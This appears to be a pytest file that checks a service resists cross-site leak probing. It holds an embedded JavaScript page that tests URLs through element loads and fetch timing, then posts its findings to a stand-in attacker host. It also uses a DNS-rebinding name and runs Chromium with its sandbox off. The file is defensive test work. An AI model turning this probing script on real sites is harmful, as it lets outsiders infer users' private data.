"""In a real browser, a page of elsewhere cannot tell a name that is held from one that is not."""

import json
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from socket import create_server
from typing import Any

import pytest

from iga.api.app import create_app
from iga.api.auth import Entrance
from iga.api.connections import Listening, answer
from tests.api import listed
from tests.chromium import CHROMIUM, NEEDS_CHROMIUM

pytestmark = [*NEEDS_CHROMIUM]

ELSEWHERE, REBOUND, SIBLING = "elsewhere.example.org", "rebound.example.net", "iga.example.org"
"""Where the page is, a name that an attacker has lead here, and our public name, of the same site as the page."""
HELD, ABSENT = "gov:gha", "gov:nowhere"
ADDRESSES = (
    "/v1/entities/{}", "/v1/find?q={}", "/v1/questions/members?party={}", "/v1/memos/government.html?party={}",
    "/v1/reconcile?query={}&callback=told", "/v1/reconcile/preview?id={}", "/v1/reconcile/view?id={}",
)  # fmt: skip  # read across, like the rows of a table

# Everything by which a page learns of an address: whether it loads, and what can be seen of it.
PAGE = """<!doctype html><title>elsewhere</title><script>
const { addresses, back } = %s;
const element = (tag, at, more) => new Promise((tell) => {
  const it = Object.assign(document.createElement(tag), more(at));
  const seen = (event) => tell(`${event} ${it.naturalWidth ?? ""} ${it.offsetWidth}x${it.offsetHeight}`
    + ` ${(() => { try { return it.contentWindow.length } catch (error) { return error.name } })()}`);
  it.onload = () => seen("load");
  it.onerror = () => seen("error");
  document.documentElement.append(it);
});
const told = async (reply) => `${reply.type} ${reply.status} ${(await reply.text().catch(() => "")).length}`;
const asked = (at, mode) => fetch(at, { mode }).then(told, (error) => error.name);
const ways = {
  object: (at) => element("object", at, (data) => ({ data })),
  embed: (at) => element("embed", at, (src) => ({ src, type: "text/html" })),
  iframe: (at) => element("iframe", at, (src) => ({ src })),
  img: (at) => element("img", at, (src) => ({ src })),
  script: (at) => element("script", at, (src) => ({ src })),
  link: (at) => element("link", at, (href) => ({ href, rel: "stylesheet" })),
  "no-cors": (at) => asked(at, "no-cors"),
  cors: (at) => asked(at, "cors"),
};
const patient = (way, at) => Promise.race([way(at), new Promise((tell) => setTimeout(tell, 30000, "nothing"))]);
(async () => {
  const found = {};
  for (const [name, way] of Object.entries(ways)) {
    found[name] = await Promise.all(addresses.map((at) => patient(way, at)));
  }
  await fetch(back, { method: "POST", body: JSON.stringify(found) });
})();
</script>"""


class Elsewhere(ThreadingHTTPServer):
    """Serves the page, hears what it found out, and answers as a careless service does: 200 for one name, else 404."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.page = ""
        self.heard: Queue[dict[str, list[str]]] = Queue()


class _Answers(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        is_page = self.path == "/"
        self._reply(200 if is_page or HELD in self.path else 404, self.server.page if is_page else "<p>careless</p>")

    def do_POST(self) -> None:
        found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._reply(200, "")
        self.server.heard.put(found)

    def _reply(self, status: int, body: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: Any) -> None: ...


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def port(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """Give the port of the service, as `iga serve` answers there."""
    folder = tmp_path_factory.mktemp("browser")
    listed.made_in(folder)
    with listed.opened(folder, IGA_CEILING="public") as workspace:
        listening = create_server(("127.0.0.1", 0))
        app = create_app(workspace, entrance=Entrance(names=(SIBLING,)))
        threading.Thread(target=answer, args=(Listening(app, listening),), daemon=True).start()
        yield int(listening.getsockname()[1])


def told(elsewhere: Elsewhere, addresses: list[str], profile: Path) -> dict[str, list[str]]:
    """Return what a page of elsewhere finds out of some addresses, by each way."""
    own = f"http://{ELSEWHERE}:{elsewhere.server_address[1]}"
    elsewhere.page = PAGE % json.dumps({"addresses": addresses, "back": f"{own}/found"})
    mapped = ", ".join(f"MAP {name} 127.0.0.1" for name in (ELSEWHERE, REBOUND, SIBLING))
    rules = f"{mapped}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
    options = ("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage")
    # The public name has TLS by its proxy; to an address without, browsers do not say where a request comes from.
    secure = {address[: address.index("/", 8)] for address in addresses if SIBLING in address}
    trusted = f"--unsafely-treat-insecure-origin-as-secure={','.join(secure)}"
    command = [str(CHROMIUM), *options, trusted, f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", own]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
        try:
            return elsewhere.heard.get(timeout=300)
        finally:
            browser.kill()


def status(port: int, address: str) -> int:
    with closing(HTTPConnection("127.0.0.1", port)) as connection:
        connection.request("GET", address)
        return connection.getresponse().status


def test_a_page_can_tell_with_a_careless_service(elsewhere: Elsewhere, tmp_path: Path) -> None:
    own = f"http://127.0.0.1:{elsewhere.server_address[1]}"
    found = told(elsewhere, [f"{own}/{HELD}", f"{own}/{ABSENT}"], tmp_path)
    assert found["object"][0] != found["object"][1]


def test_a_page_of_elsewhere_cannot_tell(elsewhere: Elsewhere, port: int, tmp_path: Path) -> None:
    hosts = ("127.0.0.1", "localhost", REBOUND, SIBLING)
    places = [f"http://{host}:{port}{address}" for host in hosts for address in ADDRESSES]
    found = told(elsewhere, [place.format(name) for place in places for name in (HELD, ABSENT)], tmp_path)
    assert [status(port, ADDRESSES[0].format(name)) for name in (HELD, ABSENT)] == [200, 404]
    assert len(found) == 8
    for way, outcomes in found.items():
        for place, held, absent in zip(places, outcomes[::2], outcomes[1::2], strict=True):
            assert held == absent, (way, place)
